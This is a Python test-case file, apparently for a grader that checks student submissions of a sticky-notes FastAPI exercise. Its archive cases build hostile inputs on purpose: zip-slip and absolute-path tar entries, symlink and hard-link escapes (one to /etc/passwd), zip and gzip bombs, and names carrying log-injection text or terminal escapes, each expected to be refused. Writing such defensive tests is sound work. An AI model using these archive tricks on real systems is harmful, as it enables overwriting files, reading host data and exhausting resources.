    Case("packs-tar", "nothing unusual", archive(".tar.gz", lambda: tarred(GOOD_MEMBER)), EVERYTHING),
    Case(
        "packs-zip-slip",
        "a zip with a file above the folder that it is unpacked to",
        archive(".zip", lambda: zipped(GOOD_FILE, ("../../slipped.txt", "slipped"))),
        refused(".."),
    ),
    Case(
        "packs-tar-slip",
        "the same in a tar, by an absolute path",
        archive(".tar.gz", lambda: tarred(GOOD_MEMBER, (member("/tmp/slipped.txt"), b"slipped"))),  # noqa: S108
        refused("absolute"),
    ),
    Case(
        "packs-link-then-file",
        "a link to a folder, and then a file in it",
        archive(
            ".tar.gz",
            lambda: tarred(
                GOOD_MEMBER,
                (member("out", tarfile.SYMTYPE, "/tmp"), b""),  # noqa: S108
                (member("out/slipped.txt"), b"slipped"),
            ),
        ),
        refused("link"),
    ),
    Case(
        "packs-hard-link",
        "a hard link to a file of the host",
        archive(
            ".tar.gz", lambda: tarred(GOOD_MEMBER, (member("users", tarfile.LNKTYPE, "/etc/passwd"), b""))
        ),
        refused("link"),
    ),
    Case(
        "packs-zip-bomb",
        "a zip of 200 KiB that unpacks to 200 MiB",
        archive(".zip", lambda: zipped(GOOD_FILE, ("sticky_notes/bomb", bytes(MEBIBYTES_200)))),
        refused("MiB"),
    ),
    Case(
        "packs-tar-bomb",
        "the same as a tar",
        archive(".tar.gz", lambda: tarred(GOOD_MEMBER, (member("bomb"), bytes(MEBIBYTES_200)))),
        refused("MiB"),
    ),
    Case(
        "packs-nested",
        "an archive in an archive",
        archive(".zip", lambda: zipped(("submission.zip", zipped(GOOD_FILE)))),
        refused("submission.zip"),
    ),
    Case(
        "packs-encrypted",
        "a zip with a password",
        archive(".zip", lambda: encrypted(zipped(GOOD_FILE))),
        refused("encrypted"),
    ),
    Case(
        "packs-truncated-zip",
        "half of a zip",
        archive(".zip", lambda: (packed := zipped(GOOD_FILE))[: len(packed) // 2]),
        refused("zip"),
    ),
    Case(
        "packs-truncated-tar",
        "half of a tar",
        archive(".tar.gz", lambda: (packed := tarred(GOOD_MEMBER))[: len(packed) // 2]),
        refused("tar"),
    ),
    Case("packs-empty-zip", "a zip with nothing in it", archive(".zip", zipped), refused("nothing")),
    Case("packs-empty-tar", "a tar with nothing in it", archive(".tar.gz", tarred), refused("nothing")),
    Case("packs-no-bytes", "a file without a byte", archive(".zip", lambda: b""), refused("nothing")),
    Case(
        "packs-wrong-ending",
        "a zip that is called a tar",
        archive(".tar.gz", lambda: zipped(GOOD_FILE)),
        refused("zip"),
    ),
    Case(
        "packs-gzip-of-zeros",
        "a gzip of 200 MiB without any tar in it",
        archive(".tgz", lambda: gzip.compress(bytes(MEBIBYTES_200), 1)),
        refused("nothing"),
    ),
    Case("packs-fifo", "a FIFO as main.py: who opens it waits", fifo, refused("main.py")),
    Case(
        "packs-newline-in-name",
        "a file whose name holds a newline",
        archive(".zip", lambda: zipped(GOOD_FILE, ("sticky_notes/a\n::error::b.py", ""))),
        refused("name"),
    ),
    Case(
        "packs-escape-in-name",
        "a file whose name clears the terminal",
        archive(".tar.gz", lambda: tarred(GOOD_MEMBER, (member("sticky_notes/\x1b[2J.py"), b""))),
        refused("name"),
    ),
    Case(
        "packs-own-name\n::error::\x1b[2J=1+1",
        "a submission whose own name is hostile",
        honest(""),
        EVERYTHING,
    ),
    Case(
        "packs-own-name-\udcff",
        "a submission whose own name is no UTF-8",
        honest(""),
        EVERYTHING,
    ),
    Case(
        "packs-300-levels",
        "folders in folders",
        honest("", {"deep/" * 300 + "down.txt": ""}),
        refused("deep"),
    ),
    Case(
        "packs-100000-files",
        "a zip of 100,000 files, all empty",
        archive(".zip", lambda: zipped(GOOD_FILE, *((f"{number}", "") for number in range(100_000)))),
        refused("files"),
    ),
]

BROKEN = [
    Case("broken-nothing", "a folder with nothing in it", files({}), refused("nothing")),
    Case(
        "broken-syntax-error",
        "a line that is not finished",
        honest("def list_notes(:\n"),
        no_start("SyntaxError"),
    ),
    Case(
        "broken-no-app", "no variable `app`", app(HONEST.replace("app", "api")), no_start('"app" not found')
    ),
    Case(
        "broken-app-factory",
        "a function that makes the app, and no app",
        app("from fastapi import FastAPI\n\n\ndef create_app():\n    return FastAPI()\n"),
        no_start('"app" not found'),
    ),
    Case(
        "broken-other-package",
        "the package under another name",
        files({"stickynotes/__init__.py": "", "stickynotes/main.py": HONEST}),
        refused("sticky_notes"),
    ),
    Case(
        "broken-missing-dependency",
        "imports what the exercise does not declare",
        app(f"import nothing_that_is_installed\n{HONEST}"),
        no_start("No module named 'nothing_that_is_installed'"),
    ),
    Case(
        "broken-slow-start",
        "takes 3 seconds to start, and may take 10",
        honest("import time\ntime.sleep(3)\n"),
        EVERYTHING,
    ),
    Case(
        "broken-writes-beside-itself",
        "writes into the folder of its source, which can only be read",
        honest("from pathlib import Path\nPath(__file__).with_name('notes.json').write_text('{}')\n"),
        no_start("Read-only file system"),
    ),
    Case(
        "broken-writes-where-it-works",
        "writes into its working directory, as it may",
        honest("from pathlib import Path\nPath('notes.json').write_text('{}')\n"),
        EVERYTHING,
    ),
    Case(
        "broken-order-dependent",
        "lists notes only after one was stuck",
        edited(
            "return list(notes.values())",
            "return [notes[first] for first in range(min(notes), max(notes) + 1) if first in notes]",
        ),
        all_but(THAT_LIST_NO_NOTES, "== 200"),
    ),
    Case(
        "broken-byte-order-mark",
        "saved by an editor that writes CRLF and a byte order mark",
        files({"sticky_notes/main.py": b"\xef\xbb\xbf" + HONEST.replace("\n", "\r\n").encode()}),
        EVERYTHING,
    ),
]

NEIGHBOURS = [
    Case(
        name,
        "the reference, which must get everything whatever the others do",
        lambda path, traps: files(
            {"sticky_notes/main.py": f"{HONEST}# {traps.canary}\n", "notes-to-myself.txt": traps.canary}
        )(path, traps),
        EVERYTHING,
    )
    for name in ("a-neighbour", "m-neighbour", "z-neighbour")
]

CASES = [*BROKEN, *PACKS, *LEAVES, *FORGES, *ANSWERS, *STAYS, *READS, *FLOODS]
